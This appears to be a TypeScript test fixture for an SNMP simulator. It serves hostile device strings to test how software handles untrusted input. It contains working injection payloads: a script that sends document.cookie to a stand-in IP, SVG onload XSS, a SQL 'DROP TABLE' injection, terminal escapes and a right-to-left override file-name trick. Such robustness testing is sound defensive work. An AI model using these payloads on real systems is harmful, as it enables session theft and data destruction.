/**
 * Untrusted device strings at their worst: markup and script, terminal escapes,
 * control characters, a right-to-left override, invalid UTF-8, and a sysDescr
 * of ~60 KB (fact `hostileDescrBytes`), close to the 65,507-byte UDP payload
 * limit. sysName comes from the truth (system fragment).
 */
import { defineFragment, snmp } from '../fragment.js';

const SYSTEM = '1.3.6.1.2.1.1';

const HEAD =
  '<html><body onload="alert(document.cookie)"><script>fetch("http://198.51.100.7/x?"+document.cookie)</script>' +
  '<iframe src="javascript:alert(1)"></iframe>\u001b[2J\u001b[31mterminal\u001b[0m\r\n\b\b\u0007\u202etxt.exe\u0000';
const FILLER = '<b style="font-size:999px">A</b>\t';
/** Bytes that are not valid UTF-8 (a lone continuation byte, an impossible byte). */
const INVALID_UTF8 = [0x80, 0xff];

export function hostileDescr(totalBytes: number): Buffer {
  const head = Buffer.from(HEAD, 'utf8');
  const fillerBytes = totalBytes - head.length - INVALID_UTF8.length;
  const filler = Buffer.from(FILLER.repeat(Math.ceil(fillerBytes / FILLER.length)).slice(0, fillerBytes), 'utf8');
  return Buffer.concat([head, filler, Buffer.from(INVALID_UTF8)]);
}

export default defineFragment((host) => [
  snmp.bytes(`${SYSTEM}.1.0`, hostileDescr(Number(host.facts.hostileDescrBytes ?? 60_000))),
  snmp.string(`${SYSTEM}.4.0`, '"><svg/onload=alert(2)> admin@\u0000evil'),
  snmp.string(`${SYSTEM}.6.0`, "Server room'); DROP TABLE devices;--\u001b]0;owned\u0007"),
]);
